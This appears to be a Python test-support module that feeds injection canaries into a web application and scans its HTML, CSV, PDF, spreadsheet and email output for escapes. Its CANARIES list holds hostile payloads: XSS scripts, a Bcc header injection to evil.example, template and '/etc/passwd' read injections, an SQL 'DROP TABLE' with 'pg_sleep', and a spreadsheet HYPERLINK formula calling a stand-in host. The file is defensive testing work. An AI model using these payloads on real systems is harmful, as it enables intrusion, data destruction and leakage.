"""Words that break out of wherever they are not kept as words, and the eyes that see it."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from html.parser import HTMLParser
from typing import Any

import pypdfium2

MARK = "KNRY"
RECKONED = str(7919 * 7)
"""What stands on a page only if somebody reckoned `7919*7` there."""
_EVENT = re.compile(r"^on\w+$")
_FORMULA = re.compile(r"^\s*[=+\-@\t\r]")


@dataclass(frozen=True)
class Canary:
    kind: str
    text: str


CANARIES = (
    Canary("html", f"{MARK}\"'><b id=knry></b><img src=x onerror=alert(1)><script>alert('{MARK}')</script>"),
    Canary("header", f"{MARK}\r\nBcc: knry@evil.example\r\nX-Knry: 1\r\n\r\n{MARK}"),
    Canary(
        "template", f"{MARK}{{{{7919*7}}}}{{% load static %}}${{7919*7}}#{{7919*7}}<%=7919*7%>%(x)s {{0}}"
    ),
    Canary("typst", f'{MARK} #(7919*7) #read("/etc/passwd") #eval("7919*7") $x$ @a <b> `c` [d] \\'),
    Canary("sql", f"{MARK}'; SELECT pg_sleep(9); DROP TABLE cases_case; --"),
    Canary("csv", f'=HYPERLINK("http://evil.example/{MARK}";"{MARK}")'),
    Canary("log", f"{MARK}\n2026-01-01 00:00:00 CRITICAL {MARK} forged"),
    Canary("url", f"http://127.0.0.1:9/{MARK}"),
    Canary("link", f"javascript:alert('{MARK}')"),
)
SMOKE = ("html", "header", "typst")


def chosen(size: str) -> tuple[Canary, ...]:
    return tuple(canary for canary in CANARIES if size != "smoke" or canary.kind in SMOKE)


def faults_in(response: Any) -> Iterator[str]:
    """What broke out on an answer of ours."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    kind = str(response.headers.get("Content-Type", ""))
    if response.status_code >= 500:
        yield f"status {response.status_code}"
    if "X-Knry" in response.headers:
        yield "a header of its own"
    if kind.startswith("text/html"):
        yield from _Eyes.faults(content.decode())
    elif kind.startswith("text/csv"):
        yield from _formulas(content.decode("utf-8-sig"))
    elif kind == "application/pdf":
        yield from _reckoned(text_of(content))
    elif "spreadsheetml" in kind:
        yield from _formulas_of_workbook(content)
    if not kind.startswith(("application/pdf", "image/", "audio/")):
        yield from _reckoned(content.decode("utf-8", "replace"))


def faults_of_mail(message: EmailMessage, addresses: set[str]) -> Iterator[str]:
    """:param addresses: to which a message may go."""
    headers = {name.lower() for name in message}  # type: ignore[attr-defined]
    if headers & {"bcc", "x-knry"}:
        yield "a header of its own"
    to = {str(message["To"] or "").strip()}
    if not to <= addresses:
        yield f"it goes to {to - addresses}"
    for part in message.walk():
        if part.get_content_type() == "text/html":
            yield from _Eyes.faults(str(part.get_payload(decode=True), "utf-8"))
    yield from _reckoned(message.as_string())


def text_of(pdf: bytes) -> str:
    document = pypdfium2.PdfDocument(pdf)
    return "".join(page.get_textpage().get_text_bounded() for page in document)


def _reckoned(text: str) -> Iterator[str]:
    if RECKONED in text or "root:x:0" in text:
        yield "somebody reckoned or read what was typed"


def _formulas(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from (f"a formula: {cell[:40]}" for cell in row if MARK in cell and _FORMULA.match(cell))


def _formulas_of_workbook(content: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        for name in workbook.namelist():
            if re.search(rb"<f[ >][^<]*" + MARK.encode(), workbook.read(name)):
                yield f"a formula in {name}"


class _Eyes(HTMLParser):
    """Sees elements and attributes that only a canary brings."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    @classmethod
    def faults(cls, page: str) -> list[str]:
        eyes = cls()
        eyes.feed(page)
        return eyes.found

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in_script = tag == "script"
        for name, value in attrs:
            if value == "knry" or _EVENT.match(name):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and f"alert('{MARK}')" in data and "<script>" not in data:
            self.found.append(f"a script: {data[:60]}")
